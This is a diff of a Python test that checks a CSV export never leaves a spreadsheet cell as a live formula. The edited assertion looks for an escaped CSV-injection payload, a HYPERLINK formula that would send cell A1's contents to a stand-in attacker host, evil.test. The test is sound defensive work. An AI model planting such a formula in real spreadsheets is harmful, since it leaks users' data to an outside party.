@@ -210,7 +210,7 @@ def test_no_cell_of_a_table_is_a_formula(ran: Ran) -> None:
         cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
         seen |= {cell for cell in cells if "HYPERLINK" in cell}
         assert [cell[:60] for cell in cells if live.match(cell) and not number.match(cell)] == [], name
-    assert seen and all(cell.startswith('\'=HYPERLINK("http://evil.test/?"&A1,"x")') for cell in seen), "the formulas are there, as text"
+    assert '\'=HYPERLINK("http://evil.test/?"&A1,"x")' in {cell.partition(" ")[0] for cell in seen}, "the formulas are there, as text"
 
 
 def test_a_mail_has_our_headers_one_recipient_and_nothing_else(ran: Ran) -> None:
